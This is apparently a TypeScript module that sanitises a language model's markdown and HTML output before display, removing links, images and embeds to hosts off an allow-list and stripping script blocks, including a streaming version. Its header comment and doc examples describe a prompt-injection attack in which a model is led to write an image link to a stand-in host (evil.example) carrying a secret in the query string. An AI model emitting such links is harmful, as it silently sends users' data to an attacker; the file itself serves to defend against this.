import { failClosed } from './errors.js';

/**
 * Output sanitising for display. A model answer rendered as markdown can leak data without a
 * click: an injected instruction makes the model write `![](https://evil.example/?q=<secret>)`
 * and the client fetches the image. Images, links, reference definitions and autolinks to hosts
 * not on the allow-list are therefore neutralised (the visible text stays, the URL goes), and
 * raw HTML is stripped or, at least, its script blocks and off-list embeds removed.
 */

/** Options of `sanitizeOutput`. */
export interface SanitizeOptions {
  /** Hosts links and images may point to: `docs.mistral.ai`, or `*.example.com` for subdomains. */
  allowedLinkHosts: string[];
  /**
   * Remove every HTML tag, and script, style and comment blocks with their content. When false,
   * only script blocks and `<img>`/`<iframe>` tags with an off-list `src` are removed.
   */
  stripHtml: boolean;
}

// Each construct is bounded so one match costs at most its length; SANITIZE_HOLD_BACK below is
// the longest of them. Named groups tell which construct matched.
const INLINE = String.raw`(?<bang>!?)\[(?<text>[^\[\]\n]{0,500})\]\(\s{0,8}<?(?<url>[^\s()<>]{0,2048}(?:\([^\s()]{0,256}\)[^\s()<>]{0,256})?)>?(?:\s{1,8}(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'))?\s{0,8}\)`;
const REF_DEF = String.raw`(?<=(?:^|\n) {0,3})\[[^\]\n]{1,200}\]:[ \t]{0,8}<?(?<refUrl>[^\s<>]{1,2048})>?(?:[ \t]{1,8}(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|\([^)\n]{0,200}\)))?[ \t]{0,8}(?=\n|$)`;
const AUTOLINK = String.raw`<(?<auto>(?:https?|ftp|mailto|data|javascript):[^\s<>]{1,2048})>`;
const BLOCK = String.raw`<(?<block>script|style)\b[^>]{0,1024}>[\s\S]{0,4096}?</\k<block>\s{0,8}>`;
const COMMENT = String.raw`(?<comment><!--[\s\S]{0,4096}?-->)`;
const TAG = String.raw`</?(?<tag>[A-Za-z][A-Za-z0-9-]{0,32})(?:\s[^<>]{0,1024})?/?>`;
const CONSTRUCTS = new RegExp(`${INLINE}|${REF_DEF}|${AUTOLINK}|${BLOCK}|${COMMENT}|${TAG}`, 'gi');
const SRC = /\ssrc\s{0,4}=\s{0,4}["']?([^"'\s>]{1,2048})/i;
const EMBEDS = new Set(['img', 'iframe', 'script', 'object', 'embed', 'video', 'audio', 'source']);

/** Longest construct the sanitiser replaces, which bounds the stream hold-back. */
export const SANITIZE_HOLD_BACK = 8 + 1024 + 1 + 4096 + 9 + 8 + 16;
// Left context for the reference-definition look-behind (a line start and three spaces).
const LEFT_CONTEXT = 4;

function hostAllowed(url: string, allowed: readonly string[]): boolean {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return false;
  }
  if (parsed.protocol !== 'https:' && parsed.protocol !== 'http:') return false;
  const host = parsed.hostname.toLowerCase();
  for (const entry of allowed) {
    const e = entry.toLowerCase();
    if (e.startsWith('*.') ? host.endsWith(e.slice(1)) : host === e) return true;
  }
  return false;
}

// The replacement for one construct, or null to keep it as written.
function replacement(m: RegExpExecArray, options: SanitizeOptions): string | null {
  const g = m.groups!;
  const allowed = options.allowedLinkHosts;
  if (g.url !== undefined) return hostAllowed(g.url, allowed) ? null : (g.text ?? '');
  if (g.refUrl !== undefined) return hostAllowed(g.refUrl, allowed) ? null : '';
  if (g.auto !== undefined) return hostAllowed(g.auto, allowed) ? null : '[link removed]';
  if (g.block !== undefined) {
    return options.stripHtml || g.block.toLowerCase() === 'script' ? '' : null;
  }
  if (g.comment !== undefined || options.stripHtml) return options.stripHtml ? '' : null;
  const tag = (g.tag ?? '').toLowerCase();
  if (!EMBEDS.has(tag)) return null;
  const src = SRC.exec(m[0])?.[1];
  return tag === 'script' || src === undefined || !hostAllowed(src, allowed) ? '' : null;
}

// Rewrites text[from, to) with construct replacements; matches start at or after `from`, and
// the text before `from` is only seen by look-behinds. Returns the output and where the last
// match that crosses `to` starts (or `to`).
function rewrite(
  text: string,
  from: number,
  to: number,
  options: SanitizeOptions,
): [string, number] {
  let out = '';
  let at = from;
  CONSTRUCTS.lastIndex = from;
  for (let m = CONSTRUCTS.exec(text); m !== null; m = CONSTRUCTS.exec(text)) {
    if (m.index >= to) break;
    if (m[0].length === 0) {
      CONSTRUCTS.lastIndex = m.index + 1;
      continue;
    }
    const end = m.index + m[0].length;
    if (end > to) return [out + text.slice(at, m.index), m.index];
    const r = replacement(m, options);
    if (r !== null) {
      out += text.slice(at, m.index) + r;
      at = end;
    }
  }
  return [out + text.slice(at, to), to];
}

/**
 * Neutralises off-list links and images and unsafe HTML in a model answer before display.
 *
 * @example
 * sanitizeOutput('![x](https://evil.example/p.png?q=secret)', { allowedLinkHosts: [], stripHtml: true })
 * // 'x'
 */
export function sanitizeOutput(text: string, options: SanitizeOptions): string {
  return failClosed(() => rewrite(text, 0, text.length, options)[0]);
}

/** Sanitiser for an answer that arrives in pieces; see `createOutputSanitizer`. */
export interface StreamSanitizer {
  push(piece: string): string;
  end(): string;
}

// Characters that may open a construct: `!` and `[` (markdown), `<` (HTML, autolinks).
const OPENERS = /[![<]/g;

/**
 * Creates a streaming sanitiser whose output, concatenated, equals `sanitizeOutput` of the whole
 * text. It releases everything up to the first `!`, `[` or `<` among the last
 * `SANITIZE_HOLD_BACK` characters, so plain prose streams through without delay and only a
 * possible link or tag is held until it is complete or can no longer be one.
 *
 * @example
 * const s = createOutputSanitizer({ allowedLinkHosts: ['docs.mistral.ai'], stripHtml: true });
 * s.push('see ![a](https://evil.exa') + s.push('mple/x.png)') + s.end(); // 'see a'
 */
export function createOutputSanitizer(options: SanitizeOptions): StreamSanitizer {
  let context = '';
  let pending = '';
  const release = (final: boolean): string => {
    const text = context + pending;
    let cut = text.length;
    if (!final) {
      OPENERS.lastIndex = Math.max(context.length, text.length - SANITIZE_HOLD_BACK);
      const opener = OPENERS.exec(text);
      if (opener) cut = opener.index;
    }
    const [out, stop] = rewrite(text, context.length, cut, options);
    context = text.slice(Math.max(0, stop - LEFT_CONTEXT), stop);
    pending = text.slice(stop);
    return out;
  };
  return {
    push(piece) {
      pending += piece;
      return failClosed(() => release(false));
    },
    end() {
      return failClosed(() => release(true));
    },
  };
}

/**
 * Sanitises an async stream of answer pieces.
 *
 * @example
 * for await (const safe of sanitizeStream(pieces, options)) res.write(safe);
 */
export async function* sanitizeStream(
  pieces: AsyncIterable<string>,
  options: SanitizeOptions,
): AsyncIterable<string> {
  const sanitizer = createOutputSanitizer(options);
  for await (const piece of pieces) {
    const out = sanitizer.push(piece);
    if (out.length > 0) yield out;
  }
  const rest = sanitizer.end();
  if (rest.length > 0) yield rest;
}
